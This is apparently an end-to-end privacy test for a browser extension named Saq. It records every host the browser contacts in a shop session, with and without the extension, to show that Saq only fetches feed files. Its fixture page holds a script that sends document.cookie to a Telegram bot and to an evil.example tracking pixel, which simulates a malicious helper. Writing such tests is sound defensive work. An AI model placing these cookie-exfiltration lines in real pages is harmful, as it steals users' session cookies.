/**
 * Privacy, end to end in Chromium and Firefox: the same full session — shop pages, a helper caught
 * (auto-clicker from another extension, cookies sent to a Telegram bot, a tracking pixel), the popup, an
 * evidence report saved, a feed refresh — recorded once without Saq and once with it. Every host either
 * browser dialled is seen (see privacy-traffic.ts; a canary request to an unknown host proves it each run).
 *
 * Proven: Saq adds requests to ONE host only, the feed mirror; those requests are plain GETs of feed files
 * with no cookie, no query and no body; no request in a shop page was initiated by Saq's content scripts;
 * and the page's own traffic still reaches every host it reached without Saq (Saq observes, never blocks).
 */
import { expect, it } from 'vitest';
import type { Page } from 'puppeteer';
import { TEST_MIRRORS_KEY } from '../../src/background/feed-config.ts';
import { assembledSources } from '../../tools/build/feed-bundle.ts';
import { signTestPointer, signTestRules, testRootBytes, testRulesPath } from '../../tools/build/test-feed.ts';
import { FEED_HOST } from '../shop/config.ts';
import type { RecordedRequest, ShopServer } from '../shop/index.ts';
import { pollPage, type SaqBrowser } from '../helpers/harness.ts';
import { autoBuyScript, HELPER_CDN } from '../helpers/hostile-scripts.ts';
import { HELPER_EXTENSION } from '../helpers/paths.ts';
import { describeEachBrowser, eventually, type E2EContext } from './each-browser.ts';
import { catchAllHostArgs, CdpTrafficRecorder, hostOfUrl, isNetwork } from './privacy-traffic.ts';

const DAY = 86_400_000;
const PRODUCT = '/kz/product/snow-leopard-silver';
const EXFIL_PAGE = '/kz/privacy-session/exfil';
/**
 * Requests the BROWSER makes on its own, at random times, with or without Saq: Chromium's Google account
 * cookie check, GCM check-in, network time and NTP fetches, and Safe Browsing's check of every download
 * (here: the evidence report Saq saves — a person who saves any file gets the same). They are allowed
 * only as browser requests: none may carry Saq's origin, and no tab, worker or extension page may have made
 * one (CDP sees every request a context makes). Firefox's own services are switched off by the harness's prefs.
 */
const BROWSER_SERVICES: Record<string, readonly string[]> = {
  chromium: ['accounts.google.com', 'android.clients.google.com', 'clients2.google.com', 'www.google.com', 'sb-ssl.google.com'],
  firefox: [],
};
/** Not served by the replica and not in the certificate: if the recording sees it, it sees every host. */
const CANARY_HOST = 'canary.unlisted-host.example';

/** A shop page where a "helper" sends the cookies to a Telegram bot and loads a tracking pixel. */
function exfilPage(): string {
  return `<!doctype html><html lang="kk"><head><meta charset="utf-8"><title>Дүкен</title></head><body>
<h1>Дүкен</h1>
<script>
  document.cookie = 'sid=privacy-test; path=/';
  fetch('https://api.telegram.org/bot123456:AAA/sendMessage', { method: 'POST', body: JSON.stringify({ text: document.cookie }) });
  new Image().src = 'https://evil.example/pixel.gif?c=' + encodeURIComponent(document.cookie);
  fetch('https://${CANARY_HOST}/canary', { mode: 'no-cors' }).catch(() => {});
</script>
</body></html>`;
}

async function publishFeed(shop: ShopServer): Promise<void> {
  const now = Date.now();
  const sign = { issued: now - 60_000, expires: now + 30 * DAY };
  const v2 = await signTestRules({ version: 2, body: assembledSources(), ...sign });
  shop.feed.put('root/1.root.json', await testRootBytes());
  shop.feed.put(testRulesPath(2, v2), v2);
  shop.feed.put('timestamp.json', await signTestPointer({ version: 2, rules: v2, rulesVersion: 2, ...sign }));
}

async function visit(saq: SaqBrowser, path: string): Promise<Page> {
  const page = await saq.newShopPage(path);
  await new Promise((resolve) => setTimeout(resolve, 500));
  return page;
}

/** The part of the session a person does in the shop; the same with and without Saq. */
async function browseShop(saq: SaqBrowser): Promise<Page> {
  for (const path of ['/kz/', '/en/login']) await (await visit(saq, path)).close();
  await visit(saq, EXFIL_PAGE);
  return visit(saq, PRODUCT); // the helper extension's auto-clicker goes to work here
}

/** Saq's part: the popup, an evidence report, a feed refresh — everything that could talk to a server. */
async function useSaq(saq: SaqBrowser, shop: ShopServer, product: Page): Promise<void> {
  const tabId = await saq.tabIdOf(product);
  await eventually(
    async () => (await saq.report(tabId)).verdicts.length,
    (n) => n > 0,
    'Saq to judge the helper',
  );
  const popup = await saq.openPopup(tabId);
  await popup.click('[data-testid="save-report"]');
  await pollPage(
    popup,
    () => document.querySelector('[data-testid="report"] [role="status"]') !== null,
    undefined,
    'the report to be saved',
  );
  // "Check now" lives on the options page.
  const options = await saq.openExtensionPage('src/options/index.html');
  await pollPage(options, () => document.querySelector('[data-testid="feed-check-now"]') !== null, undefined, 'the options page');
  await options.evaluate((key, mirrors) => chrome.storage.local.set({ [key]: mirrors }), TEST_MIRRORS_KEY, [`https://${FEED_HOST}/`]);
  await options.click('[data-testid="feed-check-now"]');
  await eventually(
    async () => shop.requests.filter((r) => r.host === FEED_HOST).length,
    (n) => n >= 3,
    'the feed refresh',
  );
  await pollPage(
    options,
    () => document.querySelector('[data-testid="feed-status"] dd')?.textContent === '2',
    undefined,
    'the options page to show rules version 2',
  );
}

interface Session {
  requests: RecordedRequest[];
  connections: string[];
  hosts: Set<string>;
}

async function session(context: E2EContext, withSaq: boolean, record: (saq: SaqBrowser) => Promise<void>): Promise<Session> {
  const shop = context.shop;
  shop.reset();
  shop.setFixture('/autobuy.js', autoBuyScript(), { host: HELPER_CDN, contentType: 'text/javascript' });
  shop.setFixture(EXFIL_PAGE, exfilPage());
  await publishFeed(shop);
  const saq = await context.launch({ withSaq, extraExtensions: [HELPER_EXTENSION], chromiumArgs: catchAllHostArgs(shop) });
  await record(saq);
  const product = await browseShop(saq);
  if (withSaq) await useSaq(saq, shop, product);
  // Let late beacons and polls land, then stop: what the browser does after this is not the session's.
  await new Promise((resolve) => setTimeout(resolve, 1_500));
  const requests = [...shop.requests];
  const connections = [...shop.connections];
  await saq.close();
  const hosts = new Set([...requests.map((r) => r.host), ...connections.map((c) => c.replace(/:\d+$/, ''))].filter(Boolean));
  return { requests, connections, hosts };
}

/** Requests an extension page or the background made: the browser stamps their Origin/Referer with the extension's origin. */
function fromExtension(r: RecordedRequest, extensionOrigin: string): boolean {
  return [r.headers.origin, r.headers.referer].some((v) => v !== undefined && v.startsWith(extensionOrigin));
}

describeEachBrowser('privacy: the only requests Saq makes go to the feed mirror', (context) => {
  it('a full session with and without Saq differs only by feed requests, which carry nothing about the person', async () => {
    const without = await session(context, false, async () => {});
    let cdp: CdpTrafficRecorder | undefined;
    let extensionOrigin = '';
    const withSaq = await session(context, true, async (saq) => {
      extensionOrigin = saq.extensionOrigin;
      if (saq.name === 'chromium') cdp = await CdpTrafficRecorder.start(saq.browser);
    });
    await cdp?.stop();

    // The recording sees hosts the replica does not serve, in both runs: nothing could slip past it.
    expect(without.hosts).toContain(CANARY_HOST);
    expect(withSaq.hosts).toContain(CANARY_HOST);
    // The session really happened: the helper's CDN, the exfiltration sinks and the shop were reached.
    for (const host of ['kazcoins.nationalbank.kz', HELPER_CDN, 'api.telegram.org', 'evil.example']) expect(without.hosts).toContain(host);

    // With Saq, one more host: the feed mirror (and what the browser itself does for a download). Saq
    // blocks nothing: every host reached without it is reached with it.
    const browserOwn = BROWSER_SERVICES[context.browserName]!;
    const added = [...withSaq.hosts].filter((h) => !without.hosts.has(h));
    expect(added).toContain(FEED_HOST);
    expect(added.filter((h) => h !== FEED_HOST && !browserOwn.includes(h))).toEqual([]);
    expect([...without.hosts].filter((h) => !withSaq.hosts.has(h) && !browserOwn.includes(h))).toEqual([]);
    for (const r of withSaq.requests.filter((x) => browserOwn.includes(x.host))) expect(fromExtension(r, extensionOrigin)).toBe(false);

    // Nothing extra to the hosts the page itself talks to either (a request there would hide among the page's
    // own): every request with Saq matches one without it, and the sinks got exactly as many requests.
    const shape = (r: RecordedRequest): string => `${r.host} ${r.method} ${new URL(r.path, 'https://x.test').pathname}`;
    // (The harness's own stepping stone to extension pages in Firefox, /__saq_probe, is the test's traffic, not Saq's.)
    const pageHosts = (r: RecordedRequest): boolean => r.host !== FEED_HOST && !browserOwn.includes(r.host) && r.path !== '/__saq_probe';
    const withoutShapes = new Set(without.requests.filter(pageHosts).map(shape));
    expect(
      withSaq.requests
        .filter(pageHosts)
        .map(shape)
        .filter((x) => !withoutShapes.has(x)),
    ).toEqual([]);
    const sinkCounts = (ss: Session): Record<string, number> => {
      const counts: Record<string, number> = {};
      for (const r of ss.requests.filter((x) => [HELPER_CDN, 'api.telegram.org', 'evil.example'].includes(x.host))) {
        counts[shape(r)] = (counts[shape(r)] ?? 0) + 1;
      }
      return counts;
    };
    expect(sinkCounts(withSaq)).toEqual(sinkCounts(without));

    // Everything the extension's own pages and background sent went to the feed, as bare GETs of feed files.
    const saqRequests = withSaq.requests.filter((r) => fromExtension(r, extensionOrigin));
    expect(saqRequests.length).toBeGreaterThanOrEqual(3);
    for (const r of [...saqRequests, ...withSaq.requests.filter((x) => x.host === FEED_HOST)]) {
      expect({ host: r.host, method: r.method }).toEqual({ host: FEED_HOST, method: 'GET' });
      expect(r.path).toMatch(/^\/(root\/\d+\.root\.json|timestamp\.json|rules\/\d+\.[0-9a-f]{64}\.rules\.json)$/);
      expect(r.headers.cookie).toBeUndefined();
      expect(r.headers.authorization).toBeUndefined();
      expect(r.body).toBe('');
    }

    if (cdp) {
      const saqId = extensionOrigin;
      const network = cdp.requests.filter((r) => isNetwork(r.url));
      // The service worker and the extension pages talk to the feed host only.
      const fromExtensionTargets = network.filter((r) => r.targetUrl.startsWith(saqId));
      expect(fromExtensionTargets.length).toBeGreaterThanOrEqual(3);
      expect(new Set(fromExtensionTargets.map((r) => hostOfUrl(r.url)))).toEqual(new Set([FEED_HOST]));
      // No request in a shop page was started by Saq's content scripts. (Saq's hooks sit on the stack of every
      // page fetch they pass through; a request Saq STARTED would have only Saq's frames, none of the page's.)
      const byContentScripts = network.filter(
        (r) => !r.targetUrl.startsWith(saqId) && r.initiators.length > 0 && r.initiators.every((u) => u.startsWith(saqId)),
      );
      const passedThroughHooks = network.filter((r) => !r.targetUrl.startsWith(saqId) && r.initiators.some((u) => u.startsWith(saqId)));
      expect(passedThroughHooks.length, 'the recorder sees the page requests that pass through Saq hooks').toBeGreaterThan(0);
      expect(byContentScripts).toEqual([]);
      // The browser's own download check is made by no tab, worker or extension page.
      expect(network.filter((r) => browserOwn.includes(hostOfUrl(r.url)))).toEqual([]);
    }
  }, 240_000);
});
